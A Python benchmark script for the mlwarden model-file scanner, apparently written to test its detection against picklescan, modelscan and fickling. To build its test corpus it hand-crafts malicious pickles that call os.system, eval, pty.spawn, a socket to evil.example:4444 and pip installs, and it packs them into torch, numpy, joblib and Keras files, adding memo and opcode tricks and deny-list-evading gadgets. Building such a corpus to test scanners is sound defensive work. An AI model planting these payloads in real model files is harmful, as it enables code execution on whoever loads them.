"""Benchmark the models hook against picklescan, modelscan and fickling.

    python bench/models.py corpus DIR     # generate the corpus (benign part needs torch,
                                          # scikit-learn, joblib, pandas: run it with a
                                          # Python that has them, e.g. /tmp/models-bench)
    python bench/models.py quality DIR    # recall / false positives, side by side
    python bench/models.py speed WORKDIR  # 1 MB vs 1 GB torch zip; 1,000 small models
    python bench/models.py scan PATH...   # mlwarden's models hook in one process (JSON)

Peers are found through $PICKLESCAN, $MODELSCAN and $FICKLING (paths to their
executables), else on PATH, else in /tmp/peers-<tool>/bin; an absent peer is skipped
with a message. Nothing here loads a generated pickle: malicious files are written
opcode by opcode.
"""

from __future__ import annotations

import bz2
import functools
import gzip
import io
import json
import lzma
import os
import pickle
import resource
import shutil
import subprocess
import sys
import tempfile
import time
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
LEGACY_MAGIC = 0x1950A86A20F9469CFC6C

# --- crafting pickles by hand -------------------------------------------------------------


def frag(obj: object, proto: int) -> bytes:
    """`obj` pickled without PROTO/FRAME/STOP, to splice into a hand-made stream."""
    data = pickle.dumps(obj, protocol=proto)
    if proto >= 2:
        data = data[2:]
    if proto >= 4 and data[:1] == pickle.FRAME:
        data = data[9:]
    return data[:-1]


def header(proto: int) -> bytes:
    return bytes([0x80, proto]) if proto >= 2 else b""


def glob_ref(module: str, name: str, proto: int) -> bytes:
    if proto >= 4:
        return frag(module, proto) + frag(name, proto) + pickle.STACK_GLOBAL
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def call(module: str, name: str, args: tuple[object, ...], proto: int) -> bytes:
    """An expression that calls module.name(*args) when unpickled."""
    return glob_ref(module, name, proto) + frag(args, proto) + pickle.REDUCE


def in_state_dict(expr: bytes, proto: int) -> bytes:
    """A whole pickle: a dict of innocent weights with the payload under one key."""
    if proto == 0:
        body = (
            b"(d" + frag("weight", 0) + frag([0.5, 1.5], 0) + b"s" + frag("extra", 0) + expr + b"s"
        )
    else:
        body = b"}(" + frag("weight", proto) + frag([0.5, 1.5], proto) + frag("extra", proto)
        body += expr + b"u"
    return header(proto) + body + pickle.STOP


def payload(module: str, name: str, args: tuple[object, ...], proto: int = 2) -> bytes:
    return in_state_dict(call(module, name, args, proto), proto)


PRIMITIVES: list[tuple[str, str, tuple[object, ...]]] = [
    ("os", "system", ("id",)),
    ("posix", "system", ("id",)),
    ("nt", "system", ("whoami",)),
    ("subprocess", "Popen", (["sh", "-c", "id"],)),
    ("subprocess", "check_output", (["id"],)),
    ("builtins", "eval", ("__import__('os').system('id')",)),
    ("builtins", "exec", ("import os; os.system('id')",)),
    ("builtins", "__import__", ("os",)),
    ("builtins", "compile", ("print(1)", "x", "exec")),
    ("builtins", "open", ("/etc/passwd",)),
    ("builtins", "getattr", (0, "system")),
    ("runpy", "run_path", ("/tmp/x.py",)),
    ("pty", "spawn", ("/bin/sh",)),
    ("socket", "create_connection", (("evil.example", 4444),)),
    ("importlib", "import_module", ("os",)),
    ("ctypes", "CDLL", ("libc.so.6",)),
    ("pickle", "loads", (b"cos\nsystem\n(S'id'\ntR.",)),
    ("_pickle", "loads", (b"cos\nsystem\n(S'id'\ntR.",)),
    ("dill", "loads", (b"\x80\x04.",)),
    ("pip", "main", (["install", "evil-pkg"],)),
    ("webbrowser", "open", ("https://evil.example",)),
    ("code", "interact", ()),
    ("pdb", "run", ("import os; os.system('id')",)),
    ("bdb", "Bdb", ()),
    ("cProfile", "run", ("import os; os.system('id')",)),
    ("profile", "run", ("import os; os.system('id')",)),
    ("timeit", "timeit", ("import os; os.system('id')",)),
    ("trace", "Trace", ()),
    ("operator", "attrgetter", ("system",)),
    ("operator", "methodcaller", ("system", "id")),
    ("functools", "partial", (0, "id")),
    ("torch.hub", "load", ("evil/repo", "model")),
    ("numpy.testing._private.utils", "runstring", ("import os; os.system('id')", {})),
    ("sys", "exit", (1,)),
    ("shutil", "rmtree", ("/important",)),
    # Not on any deny-list we know of: only an allow-list catches these.
    ("pydoc", "pipepager", ("x", "id")),
    ("_osx_support", "_read_output", ("id",)),
    ("pkgutil", "resolve_name", ("os:system",)),
    ("unittest.mock", "_importer", ("os",)),
    ("doctest", "debug_script", ("import os; os.system('id')",)),
]

# --- containers ---------------------------------------------------------------------------


def torch_zip(pkl: bytes, folder: str = "archive", member: str = "data.pkl") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr(f"{folder}/{member}", pkl)
        zf.writestr(f"{folder}/byteorder", "little")
        zf.writestr(f"{folder}/data/0", b"\0" * 64)
        zf.writestr(f"{folder}/version", "3\n")
    return out.getvalue()


def legacy_torch(pkl: bytes) -> bytes:
    sys_info = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"int": 4}}
    return (
        pickle.dumps(LEGACY_MAGIC, protocol=2)
        + pickle.dumps(1001, protocol=2)
        + pickle.dumps(sys_info, protocol=2)
        + pkl
        + pickle.dumps([], protocol=2)
    )


def npy_object(pkl: bytes) -> bytes:
    text = "{'descr': '|O', 'fortran_order': False, 'shape': (2,), }"
    text += " " * (63 - (10 + len(text)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + len(text).to_bytes(2, "little") + text.encode() + pkl


def npz(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return out.getvalue()


def keras(config: object) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("metadata.json", json.dumps({"keras_version": "3.6.0"}))
        zf.writestr("config.json", json.dumps(config))
        zf.writestr("model.weights.h5", _empty_hdf5())
    return out.getvalue()


def _empty_hdf5() -> bytes:
    """A real (empty) HDF5 file written by h5py: a header alone is an unreadable member,
    which the models hook rightly fails closed on (MOD007)."""
    import h5py

    buffer = io.BytesIO()
    with h5py.File(buffer, "w"):
        pass
    return buffer.getvalue()


def keras_model(layers: list[dict[str, object]]) -> dict[str, object]:
    return {
        "module": "keras.src.models.sequential",
        "class_name": "Sequential",
        "config": {"name": "seq", "layers": layers},
        "registered_name": None,
    }


DENSE = {"module": "keras.layers", "class_name": "Dense", "config": {"units": 4}}
COMPRESS: dict[str, Callable[[bytes], bytes]] = {
    "gz": gzip.compress,
    "bz2": bz2.compress,
    "xz": lzma.compress,
    "lzma": lambda data: lzma.compress(data, format=lzma.FORMAT_ALONE),
    "zlib": zlib.compress,
}


def malicious_corpus(out: Path) -> None:
    out.mkdir(parents=True, exist_ok=True)
    shapes = ["pkl", "bin", "torchzip", "legacy", "npy", "npz", "gz", "bz2", "xz", "zlib", "weird"]
    for i, (module, name, args) in enumerate(PRIMITIVES):
        proto = i % 6
        shape = shapes[i % len(shapes)]
        pkl = payload(module, name, args, proto)
        stem = f"{i:02d}_{module}.{name}_p{proto}"
        if shape == "pkl":
            (out / f"{stem}.pkl").write_bytes(pkl)
        elif shape == "bin":  # content decides, not the name
            (out / f"{stem}.txt").write_bytes(pkl)
        elif shape == "torchzip":
            (out / f"{stem}.pt").write_bytes(torch_zip(pkl))
        elif shape == "legacy":
            (out / f"{stem}_legacy.pt").write_bytes(legacy_torch(pkl))
        elif shape == "npy":
            (out / f"{stem}.npy").write_bytes(npy_object(pkl))
        elif shape == "npz":
            (out / f"{stem}.npz").write_bytes(npz({"arr_0.npy": npy_object(pkl)}))
        elif shape == "weird":  # torch zip with an unusual folder and extension
            (out / f"{stem}.ckpt").write_bytes(torch_zip(pkl, folder="my-model_v2"))
        else:
            suffix = {"gz": ".pkl.gz", "bz2": ".pkl.bz2", "xz": ".pkl.xz", "zlib": ".joblib"}[shape]
            (out / f"{stem}{suffix}").write_bytes(COMPRESS[shape](pkl))
    evil = payload("os", "system", ("id",), 2)
    # os.system in every container.
    (out / "c_raw_noext").write_bytes(evil)
    (out / "c_torchzip.pt").write_bytes(torch_zip(evil))
    (out / "c_torchzip_renamed.bin").write_bytes(torch_zip(evil, folder="weights"))
    (out / "c_torchzip_member.pt").write_bytes(torch_zip(evil, member="extra_state"))
    (out / "c_legacy.pth").write_bytes(legacy_torch(evil))
    (out / "c_npy.npy").write_bytes(npy_object(evil))
    (out / "c_npz.npz").write_bytes(npz({"x.npy": npy_object(evil)}))
    for suffix, compress in COMPRESS.items():
        (out / f"c_{suffix}.joblib").write_bytes(compress(evil))
    nested = io.BytesIO()
    with zipfile.ZipFile(nested, "w") as zf:
        zf.writestr("inner/model.pt", torch_zip(evil))
    (out / "c_nested.zip").write_bytes(nested.getvalue())
    lambda_layer = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "function": {"class_name": "__lambda__", "config": {"code": "4wEAAA=="}},
        },
    }
    (out / "c_keras_lambda.keras").write_bytes(keras(keras_model([DENSE, lambda_layer])))
    exec_ref = {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": {
            "units": 2,
            "activation": {
                "module": "builtins",
                "class_name": "function",
                "config": "exec",
                "registered_name": "function",
            },
        },
    }
    (out / "c_keras_module.keras").write_bytes(keras(keras_model([exec_ref])))
    # Memo tricks and old opcodes.
    p4 = pickle.PROTO + b"\x04"
    memo = (
        p4
        + pickle.SHORT_BINUNICODE
        + b"\x02os"
        + pickle.MEMOIZE
        + pickle.POP
        + pickle.SHORT_BINUNICODE
        + b"\x06system"
        + pickle.MEMOIZE
        + pickle.POP
        + pickle.EMPTY_DICT
        + pickle.BINGET
        + b"\x00"
        + pickle.BINGET
        + b"\x01"
        + pickle.STACK_GLOBAL
        + frag(("id",), 4)
        + pickle.REDUCE
        + pickle.POP
        + pickle.STOP
    )
    (out / "m_memo_stack_global.pkl").write_bytes(memo)
    put = (
        b"\x80\x02"
        + b"X\x0a\x00\x00\x00subprocess"
        + b"r\x07\x01\x00\x00"
        + b"0"
        + b"}"
        + b"j\x07\x01\x00\x00"
        + b"X\x05\x00\x00\x00Popen"
        + b"\x93"
        + frag((["id"],), 2)
        + b"R"
        + b"0"
        + b"."
    )
    (out / "m_long_binput_proto2.pkl").write_bytes(put)
    (out / "m_inst_p0.pkl").write_bytes(b"(S'id'\nios\nsystem\n.")
    (out / "m_obj_p1.pkl").write_bytes(b"(cos\nsystem\nS'id'\no.")
    (out / "m_dotted_p4.pkl").write_bytes(
        in_state_dict(
            glob_ref("builtins", "__import__.__self__.eval", 4) + frag(("1",), 4) + pickle.REDUCE, 4
        )
    )
    (out / "m_py2_builtin.pkl").write_bytes(payload("__builtin__", "eval", ("1",), 0))
    (out / "m_after_stop.pt").write_bytes(pickle.dumps({"w": 1}, protocol=2) + evil)


def benign_corpus(out: Path) -> None:
    out.mkdir(parents=True, exist_ok=True)
    (out / "plain_dict.pkl").write_bytes(pickle.dumps({"lr": 0.1, "steps": [1, 2, 3]}, 4))
    (out / "plain_p0.pkl").write_bytes(pickle.dumps({"a": (1, 2.0, "x", None)}, 0))
    tensors = b"\0" * 16
    hdr = json.dumps({"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}).encode()
    (out / "weights.safetensors").write_bytes(len(hdr).to_bytes(8, "little") + hdr + tensors)
    (out / "dense.keras").write_bytes(keras(keras_model([DENSE])))
    try:
        import numpy as np
    except ImportError:
        print("benign: numpy absent, skipping numpy/torch/sklearn/pandas files", file=sys.stderr)
        return
    np.save(out / "array.npy", np.arange(100.0))
    np.savez_compressed(out / "arrays.npz", a=np.ones(3), b=np.zeros((2, 2)))
    try:
        import torch

        net = torch.nn.Sequential(torch.nn.Linear(8, 16), torch.nn.ReLU(), torch.nn.Linear(16, 2))
        torch.save(net.state_dict(), out / "state_dict.pt")
        torch.save(net, out / "whole_module.pt")
        torch.save(net.state_dict(), out / "legacy.pt", _use_new_zipfile_serialization=False)
        opt = torch.optim.Adam(net.parameters())
        torch.save(
            {"epoch": 3, "model": net.state_dict(), "optim": opt.state_dict()}, out / "ckpt.pth"
        )
        conv = torch.nn.Sequential(torch.nn.Conv2d(3, 8, 3), torch.nn.BatchNorm2d(8))
        torch.save(conv.half().state_dict(), out / "conv_half.bin")
    except ImportError:
        print("benign: torch absent, skipping torch.save files", file=sys.stderr)
    try:
        import joblib
        import pandas as pd
        from sklearn.datasets import make_classification
        from sklearn.ensemble import GradientBoostingClassifier, RandomForestClassifier
        from sklearn.linear_model import LogisticRegression
        from sklearn.pipeline import make_pipeline
        from sklearn.preprocessing import StandardScaler

        x, y = make_classification(200, 8, random_state=0)
        forest = RandomForestClassifier(10, random_state=0).fit(x, y)
        joblib.dump(forest, out / "forest.joblib")
        joblib.dump(forest, out / "forest_zlib.joblib", compress=("zlib", 3))
        joblib.dump(forest, out / "forest_xz.joblib", compress=("xz", 3))
        joblib.dump(GradientBoostingClassifier(n_estimators=5).fit(x, y), out / "gb.pkl")
        pipe = make_pipeline(StandardScaler(), LogisticRegression()).fit(x, y)
        (out / "pipeline.pkl").write_bytes(pickle.dumps(pipe))
        frame = pd.DataFrame(
            {"a": [1, 2], "b": ["x", "y"], "t": pd.to_datetime(["2024-01-01"] * 2)}
        )
        frame.to_pickle(out / "frame.pkl")
        joblib.dump(
            {"frame": frame, "objects": np.array([1, "a"], dtype=object)}, out / "mixed.joblib"
        )
    except ImportError:
        print("benign: scikit-learn/joblib/pandas absent, skipping them", file=sys.stderr)


def malicious_joblib(out: Path) -> None:
    """Real joblib files with a payload after the array bytes (needs joblib + numpy)."""
    try:
        import joblib
        import numpy as np
    except ImportError:
        print("malicious: joblib absent, skipping real joblib payloads", file=sys.stderr)
        return

    class Payload:
        def __reduce__(self) -> tuple[object, ...]:
            return (os.system, ("id",))

    data = {"weights": np.arange(1000.0), "evil": Payload()}
    for compress in (0, "zlib", "gzip", "bz2", "xz", "lzma"):
        name = f"j_joblib_{compress or 'raw'}.joblib"
        joblib.dump(data, out / name, compress=(compress, 3) if compress else 0)


def make_corpus(out: Path) -> None:
    if out.exists():
        shutil.rmtree(out)
    malicious_corpus(out / "malicious")
    malicious_joblib(out / "malicious")
    benign_corpus(out / "benign")
    counts = {kind: len(list((out / kind).iterdir())) for kind in ("malicious", "benign")}
    print(f"corpus in {out}: {counts['malicious']} malicious, {counts['benign']} benign")


# --- running the tools --------------------------------------------------------------------


def find_tool(name: str) -> str | None:
    env = os.environ.get(name.upper())
    if env:
        return env if Path(env).exists() else None
    for candidate in (shutil.which(name), f"/tmp/peers-{name}/bin/{name}"):
        if candidate and Path(candidate).exists():
            return candidate
    return None


@functools.cache
def _no_size_policy() -> str:
    """A config whose size bound no file reaches (written once per process)."""
    path = Path(tempfile.mkdtemp(prefix="mlwarden-bench-")) / "no-size-policy.toml"
    path.write_text("[tool.mlwarden.models]\nmax-size-mb = 1e12\n", encoding="utf-8")
    return str(path)


def mlwarden_scan(
    paths: list[str], *, size_policy: bool = True
) -> dict[str, list[dict[str, object]]]:
    sys.path.insert(0, str(ROOT / "src"))
    from mlwarden.core.runner import ScanRequest, run_scan

    files = tuple(paths)
    # Through the one runner, as `mlwarden scan --hook models FILES` judges them. Without
    # the size policy (MOD004), no file is large, so no `git check-attr` runs: the analysis
    # alone, as its speed is measured.
    config = None if size_policy else _no_size_policy()
    request = ScanRequest(hooks=("models",), paths=files, config=config, cache=False, jobs=1)
    report = run_scan(request)
    # Keyed by absolute path: the runner reports paths relative to where it ran.
    out: dict[str, list[dict[str, object]]] = {os.path.abspath(path): [] for path in files}
    for finding in report.findings:
        out.setdefault(os.path.abspath(finding.location.path), []).append(
            {
                "rule": finding.rule_id,
                "severity": finding.severity.label,
                "message": finding.message,
            }
        )
    for error in report.errors:
        failed = {"rule": "error", "severity": "error", "message": error.message}
        out.setdefault(os.path.abspath(error.path), []).append(failed)
    return out


def run_mlwarden_process(paths: list[str]) -> subprocess.CompletedProcess[str]:
    """mlwarden as a process of its own, like picklescan's CLI (fair timing)."""
    python = (
        str(ROOT / ".venv/bin/python") if (ROOT / ".venv/bin/python").exists() else sys.executable
    )
    return subprocess.run([python, __file__, "scan", *paths], capture_output=True, text=True)


def verdict_mlwarden(path: Path) -> tuple[bool, bool]:
    """(flagged, error) for one file: flagged = a finding that fails the hook (>= low)."""
    found = mlwarden_scan([str(path)]).get(os.path.abspath(path), [])
    flagged = any(f["severity"] in ("low", "medium", "high", "critical") for f in found)
    return flagged, any(f["rule"] == "error" for f in found)


def verdict_peer(tool: str, exe: str, path: Path) -> tuple[bool, bool]:
    cmd = [exe, "--check-safety", str(path)] if tool == "fickling" else [exe, "-p", str(path)]
    try:
        # A scratch cwd: fickling writes safety_results.json into it.
        with tempfile.TemporaryDirectory() as scratch:
            proc = subprocess.run(cmd, capture_output=True, text=True, timeout=120, cwd=scratch)
    except subprocess.TimeoutExpired:
        return False, True
    # picklescan: 1 = infected, 2 = error; modelscan: 1 = issues, 2 = failed, 3 = no
    # supported file (skipped); fickling: 1 = likely unsafe, 2 = could not parse.
    return proc.returncode == 1, proc.returncode in (2, 3)


def quality(corpus: Path) -> None:
    tools: dict[str, str | None] = {"mlwarden": "in-process"}
    for peer in ("picklescan", "modelscan", "fickling"):
        tools[peer] = find_tool(peer)
        if tools[peer] is None:
            print(f"{peer}: not found (set ${peer.upper()} or install it); skipped")
    rows = []
    per_file: dict[str, dict[str, bool]] = {}
    for tool, exe in tools.items():
        if exe is None:
            continue
        stats = {"malicious": [0, 0, 0], "benign": [0, 0, 0]}  # total, flagged, errors
        for kind in ("malicious", "benign"):
            for path in sorted((corpus / kind).iterdir()):
                if tool == "mlwarden":
                    flagged, error = verdict_mlwarden(path)
                else:
                    flagged, error = verdict_peer(tool, exe, path)
                stats[kind][0] += 1
                stats[kind][1] += flagged
                stats[kind][2] += error
                per_file.setdefault(f"{kind}/{path.name}", {})[tool] = flagged
        mal, ben = stats["malicious"], stats["benign"]
        rows.append((tool, mal[1], mal[0], ben[1], ben[0], mal[2] + ben[2]))
    print("\n| tool | malicious caught | recall | benign flagged (FP) | not scanned / errors |")
    print("|---|---|---|---|---|")
    for tool, tp, n_mal, fp, n_ben, errors in rows:
        print(
            f"| {tool} | {tp}/{n_mal} | {100 * tp / max(n_mal, 1):.0f}% | {fp}/{n_ben} | {errors} |"
        )
    names = [t for t, e in tools.items() if e is not None]
    print("\nfiles where the tools disagree (x = flagged):\n")
    print("| file | " + " | ".join(names) + " |")
    print("|---|" + "---|" * len(names))
    for name, verdicts in per_file.items():
        if len({verdicts.get(t) for t in names}) > 1:
            cells = " | ".join("x" if verdicts.get(t) else "" for t in names)
            print(f"| {name} | {cells} |")


# --- speed ----------------------------------------------------------------------------------


def big_torch_zip(path: Path, total: int, members: int = 16) -> None:
    """A torch-zip layout with `total` bytes of tensor data (stored, as torch writes it)."""
    pkl = payload("collections", "OrderedDict", (), 2)
    chunk = b"\0" * (1024 * 1024)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED, allowZip64=True) as zf:
        zf.writestr("archive/data.pkl", pkl)
        zf.writestr("archive/byteorder", "little")
        for i in range(members):
            left = total // members
            with zf.open(f"archive/data/{i}", "w", force_zip64=True) as member:
                while left > 0:
                    piece = chunk[: min(left, len(chunk))]
                    member.write(piece)
                    left -= len(piece)
        zf.writestr("archive/version", "3\n")


def timed(fn: Callable[[Path], object], path: Path, repeat: int = 3) -> tuple[float, float]:
    """Best (wall seconds, CPU seconds) over `repeat` runs; CPU counts child processes too,
    so it stays meaningful on a machine shared with other jobs."""
    best = (float("inf"), float("inf"))
    for _ in range(repeat):
        cpu0 = time.process_time() + _children_cpu()
        start = time.perf_counter()
        fn(path)
        wall = time.perf_counter() - start
        cpu = time.process_time() + _children_cpu() - cpu0
        best = (min(best[0], wall), min(best[1], cpu))
    return best


def _children_cpu() -> float:
    usage = resource.getrusage(resource.RUSAGE_CHILDREN)
    return usage.ru_utime + usage.ru_stime


def _copies(target: Path, sources: list[Path], count: int = 1000) -> Path:
    if not target.exists():
        target.mkdir(parents=True)
        for i in range(count):
            src = sources[i % len(sources)]
            shutil.copy(src, target / f"m{i:04d}{src.suffix}")
    return target


def _picklescan_errors(exe: str, folder: Path) -> int:
    """Files picklescan gave up on (it stops at joblib array bytes, for one)."""
    out = subprocess.run([exe, "-p", str(folder), "-l", "DEBUG"], capture_output=True, text=True)
    return (out.stdout + out.stderr).count("ERROR: parsing pickle")


def speed(work: Path, corpus: Path | None) -> None:
    work.mkdir(parents=True, exist_ok=True)
    small, big = work / "small.pt", work / "big.pt"
    if not small.exists():
        big_torch_zip(small, 1024 * 1024)
    if not big.exists():
        big_torch_zip(big, 1024 * 1024 * 1024)
    picklescan, modelscan = find_tool("picklescan"), find_tool("modelscan")
    runs: list[tuple[str, Callable[[Path], object]]] = [
        ("mlwarden (in-process)", lambda p: mlwarden_scan([str(p)])),
        (
            "mlwarden (in-process, no size policy)",
            lambda p: mlwarden_scan([str(p)], size_policy=False),
        ),
        ("mlwarden (process)", lambda p: run_mlwarden_process([str(p)])),
    ]
    cli = ROOT / ".venv/bin/mlwarden"
    if cli.exists():  # the real CLI: runner, suppressions and report included
        runs.append(
            (
                "mlwarden scan --hook models (CLI)",
                lambda p: subprocess.run(
                    [str(cli), "scan", "--hook", "models", str(p)],
                    capture_output=True,
                    cwd=p.parent,
                ),
            )
        )
    for name, exe in (("picklescan", picklescan), ("modelscan", modelscan)):
        if exe is None:
            print(f"{name}: not found; skipped")
            continue
        runs.append(
            (name, lambda p, exe=exe: subprocess.run([exe, "-p", str(p)], capture_output=True))
        )
    print("\n| tool | 1 MB torch zip: wall / CPU (ms) | 1 GB torch zip: wall / CPU (ms) | ratio |")
    print("|---|---|---|---|")
    for name, fn in runs:
        (w_small, c_small), (w_big, c_big) = timed(fn, small), timed(fn, big)
        print(
            f"| {name} | {w_small * 1e3:.1f} / {c_small * 1e3:.1f} | {w_big * 1e3:.1f} / "
            f"{c_big * 1e3:.1f} | {w_big / w_small:.2f} |"
        )
    benign = sorted((corpus / "benign").iterdir()) if corpus else []
    torch_files = [s for s in benign if s.suffix in (".pt", ".pth", ".bin")] or [small]
    mixed = [s for s in benign if s.suffix in (".pt", ".pth", ".pkl", ".joblib", ".bin")]
    sets = {"1,000 torch checkpoints": _copies(work / "many-torch", torch_files)}
    if mixed:
        sets["1,000 mixed (torch, sklearn .pkl, joblib)"] = _copies(work / "many-mixed", mixed)
    for label, folder in sets.items():
        print(f"\n| tool | {label}: wall (s) | CPU (s) |")
        print("|---|---|---|")
        for name, fn in runs:
            wall, cpu = timed(fn, folder, repeat=2)
            print(f"| {name} | {wall:.2f} | {cpu:.2f} |")
        if picklescan:
            print(
                f"\npicklescan gave up on {_picklescan_errors(picklescan, folder)} of these files."
            )


def main(argv: list[str]) -> int:
    if len(argv) < 2 or argv[0] not in ("corpus", "quality", "speed", "scan"):
        print(__doc__)
        return 2
    command, args = argv[0], argv[1:]
    if command == "corpus":
        make_corpus(Path(args[0]))
    elif command == "quality":
        quality(Path(args[0]))
    elif command == "speed":
        speed(Path(args[0]), Path(args[1]) if len(args) > 1 else None)
    else:
        results = mlwarden_scan(args)
        print(json.dumps({p: f for p, f in results.items() if f}, indent=1))
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
